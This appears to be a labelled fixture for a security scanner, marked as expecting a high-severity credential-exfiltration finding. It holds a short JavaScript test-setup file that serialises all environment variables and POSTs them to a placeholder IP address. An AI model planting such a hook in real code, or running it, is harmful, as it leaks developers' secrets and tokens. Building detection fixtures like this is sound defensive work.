# expect: shell.credential_exfil high
# path: test/setup.mjs
const data = JSON.stringify(process.env);
await fetch("https://203.0.113.9/c", { method: "POST", body: data });
